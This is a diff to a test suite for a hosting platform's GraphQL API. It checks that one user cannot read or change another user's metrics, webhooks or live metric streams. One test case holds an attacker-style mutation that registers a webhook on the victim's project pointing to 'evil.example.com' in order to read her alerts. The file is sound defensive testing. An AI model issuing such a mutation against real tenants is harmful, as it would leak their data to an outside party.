@@ -31,6 +31,7 @@ class Owned:
     addon: str  # an add-on of Alice's, attached to her project (issue 15)
     backup_id: str  # a backup of that add-on
     volume: str  # a volume of her project
+    webhook_id: str = ""  # an alert webhook of her project (issue 18)
 
 
 @dataclass
@@ -64,6 +65,17 @@ CASES: dict[str, Case] = {
     "application": Case(
         "query($p: String!, $n: Int!) { application(project: $p, number: $n) { number } }",
         lambda o: {"p": o.project, "n": o.app_number},
+        "NOT_FOUND",
+    ),
+    # Issue 18: another Client's project's metrics are NOT_FOUND, whatever the range.
+    "metrics": Case(
+        'query($p: String!) { metrics(project: $p, range: "30d") { project } }',
+        lambda o: {"p": o.project},
+        "NOT_FOUND",
+    ),
+    "webhooks": Case(
+        "query($p: String!) { webhooks(project: $p) { url } }",
+        lambda o: {"p": o.project},
         "NOT_FOUND",
     ),
     "sshKeys": Case("{ sshKeys { id } }", lambda o: {}, "OWN", _lacks("sshKeys", "key_id", "id")),
@@ -235,6 +247,19 @@ CASES: dict[str, Case] = {
         lambda o: {"n": o.addon, "b": o.backup_id},
         "NOT_FOUND",
     ),
+    # Issue 18: Bob can neither add a webhook to Alice's project (to read her alerts) nor remove
+    # hers, even with her webhook's id.
+    "addWebhook": Case(
+        'mutation($p: String!) { addWebhook(project: $p, url: "https://evil.example.com/") '
+        "{ id } }",
+        lambda o: {"p": o.project},
+        "NOT_FOUND",
+    ),
+    "removeWebhook": Case(
+        "mutation($p: String!, $id: ID!) { removeWebhook(project: $p, id: $id) { id } }",
+        lambda o: {"p": o.project, "id": o.webhook_id},
+        "NOT_FOUND",
+    ),
     "addVolume": Case(
         'mutation($p: String!) { addVolume(project: $p, mountPath: "/srv/loot") { name } }',
         lambda o: {"p": o.project},
@@ -268,6 +293,11 @@ CASES: dict[str, Case] = {
     ),
     "runtimeLogs": Case(
         "subscription($p: String!) { runtimeLogs(project: $p) { line } }",
+        lambda o: {"p": o.project},
+        "NOT_FOUND",
+    ),
+    "metricsLive": Case(
+        "subscription($p: String!) { metricsLive(project: $p) { at } }",
         lambda o: {"p": o.project},
         "NOT_FOUND",
     ),
@@ -348,6 +378,11 @@ async def _setup_alice(server: Server, alice: Account) -> Owned:
         "VALUES ($1, 'files', 'abcdef012345', '/srv/files', '[\"web\"]', CURRENT_TIMESTAMP)",
         rows[0][0],
     )
+    hook = await alice.api(
+        'mutation($p: String!) { addWebhook(project: $p, url: "https://hooks.example.com/a") '
+        "{ id } }",
+        p=project,
+    )
     return Owned(
         project,
         hostname,
@@ -358,13 +393,14 @@ async def _setup_alice(server: Server, alice: Account) -> Owned:
         addon,
         str(backup_id),
         "files",
+        hook["addWebhook"]["id"],
     )
 
 
 async def _snapshot(server: Server, alice: Account, owned: Owned) -> dict:
     rows = {
         table: await server.db.fetch(f"SELECT * FROM {table} ORDER BY id")
-        for table in ("addon", "addon_attachment", "addon_backup", "volume")
+        for table in ("addon", "addon_attachment", "addon_backup", "volume", "webhook")
     }
     return rows | await alice.api(
         """query($p: String!, $n: Int!) {
